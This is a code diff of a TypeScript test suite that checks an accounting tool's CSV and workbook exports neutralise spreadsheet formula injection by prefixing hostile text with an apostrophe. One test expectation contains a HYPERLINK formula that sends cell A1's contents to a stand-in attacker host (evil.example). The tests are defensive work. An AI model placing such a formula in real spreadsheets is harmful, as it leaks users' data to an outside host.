@@ -10,7 +10,7 @@ import { runCase } from '../../shared/engine';
 import { importFiles, inspectFile } from '../../shared/import/import-files';
 import { CSV_READING, LIMITS } from '../../shared/import/read-table';
 import { MAX_INPUT_BYTES, loadSqlJs, readInput } from '../../shared/node/files';
-import { csvField } from '../../shared/report/cells';
+import { csvAmount, csvField } from '../../shared/csv-out';
 import { buildWorkpapers } from '../../shared/report/workpapers';
 import { BusinessCalendar } from '../../shared/time';
 import { DEFAULT_SETTINGS, InputError, type CaseSettings, type InputFile } from '../../shared/types';
@@ -253,8 +253,10 @@ describe('hostile text in the exports', () => {
     // The hostile journal ids reach journal_entries.csv as references, each behind an apostrophe.
     expect(journal).toContain(`'=HYPERLINK(""http://evil.example/?x=""&A1,""click""):1`);
     for (const h of HOSTILE) expect(csvField(h).replace(/^"/, '').startsWith(`'`)).toBe(true);
-    expect(csvField('-2.45')).toBe('-2.45');
-    expect(csvField('-2.45+A1')).toBe(`'-2.45+A1`);
+    // An amount is a number cell, written as it is; text that looks like one is text, neutralised.
+    expect(csvField(csvAmount(-245))).toBe('-2.45');
+    expect(csvField('-2.45')).toBe(`"'-2.45"`);
+    expect(csvField('-2.45+A1')).toBe(`"'-2.45+A1"`);
   });
 
   it('no formula escapes: hostile text at the start of workbook cells stays a string cell, unchanged', async () => {
